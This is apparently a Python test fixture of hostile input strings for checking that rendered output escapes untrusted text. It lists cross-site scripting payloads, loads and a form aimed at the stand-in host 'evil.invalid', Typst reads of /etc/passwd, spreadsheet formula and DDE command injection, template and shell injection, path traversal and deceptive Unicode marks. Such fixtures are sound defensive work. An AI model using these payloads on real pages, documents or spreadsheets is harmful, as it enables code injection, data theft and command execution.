"""Hostile texts: what would run, load, compute or deceive if some output took a text for more than a text.

`OWN` is what a payload leaves on a page where it ran; `EVIL` is a host that nobody may be asked for.
"""

EVIL = "evil.invalid"
OWN = "window.hacked=true"
_URL = f"http://{EVIL}"

HTML = (
    f"<script>{OWN}</script>",
    f"<ScRiPt>{OWN}</sCrIpT >",
    f'<img src=x onerror="{OWN}">',
    f'<svg onload="{OWN}">',
    f"<svg><script>{OWN}</script></svg>",
    f'"><script>{OWN}</script>',
    f'\'><img src=x onerror="{OWN}">',
    f'" autofocus onfocus="{OWN}" x="',
    f"</title><script>{OWN}</script>",
    f"</style><script>{OWN}</script>",
    f"</script><script>{OWN}</script>",
    f"<!--<script>{OWN}//--></script>",
    f"]]><script>{OWN}</script>",
    f'<iframe srcdoc="<script>parent.{OWN}</script>"></iframe>',
    f'<details open ontoggle="{OWN}">',
    f'<input autofocus onfocus="{OWN}">',
    f'<a href="javascript:{OWN}">bấm</a>',
    f'<meta http-equiv="refresh" content="0;url={_URL}/m">',
    f'<base href="{_URL}/">',
    f'<img src="{_URL}/i.png">',
    f'<link rel="stylesheet" href="{_URL}/c.css">',
    f'<style>@import "{_URL}/s.css";</style>',
    f'<object data="{_URL}/o"></object>',
    f'<form action="{_URL}/f"><button>gửi</button></form>',
    f'<svg><image href="{_URL}/v.svg"/><set attributeName="onmouseover" to="{OWN}"/></svg>',
    f'<template><script>{OWN}</script></template><math><mtext></p><img src=x onerror="{OWN}">',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    f"javascript:{OWN}",
    f"data:text/html,<script>{OWN}</script>",
)
TYPST = (
    '#eval("1+1")',
    '#read("/etc/hostname")',
    '#image("/etc/passwd")',
    "#set page(fill: red)",
    "#sys.inputs.report",
    "= Tiêu đề <nhãn> @nhãn $ x^2 $ *đậm* _nghiêng_ `mã` \\ // /* */",
)
SHEETS = (
    "=1+1",
    f'=HYPERLINK("{_URL}/h","bấm")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    f'=WEBSERVICE("{_URL}/w")',
)
FORMATS = (
    "{0.__class__}",
    "{release.__dict__}",
    "{{ 7*7 }}",
    "{% for x in y %}",
    "%(month)s %n %s",
    "${7*7} $(touch hacked) `touch hacked`",
    "__proto__",
    "constructor",
)
PATHS = (
    "../../../../tmp/hacked",
    "C:\\Windows\\hacked.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "CON",
    "%2e%2e%2fhacked",
)
MARKS = (
    "\u202etxet\u202c",  # right to left override
    "\u2066trái\u2069",
    "trước\u2028sau\u2029hết",
    "không\u200bthấy\ufeff",
)
ALL = HTML + TYPST + SHEETS + FORMATS + PATHS + MARKS
